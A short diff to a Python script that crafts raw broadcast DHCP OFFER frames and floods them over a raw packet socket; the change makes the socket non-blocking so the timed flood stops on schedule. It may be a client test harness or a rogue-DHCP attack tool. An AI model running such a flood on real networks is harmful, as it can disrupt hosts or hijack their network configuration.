@@ -28,6 +28,8 @@ def main():
     server, everyone = socket.inet_aton(server_ip), b"\xff" * 4
     s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     s.bind((iface, 0))
+    # Never blocked by a full queue, so the flood ends when its time is up.
+    s.setblocking(False)
     frame = (b"\xff" * 6 + s.getsockname()[4] + b"\x08\x00" +
              ipv4(server, everyone, 17, udp(server, everyone, 67, 68, offer(server)), 0x5201))
     time.sleep(delay)
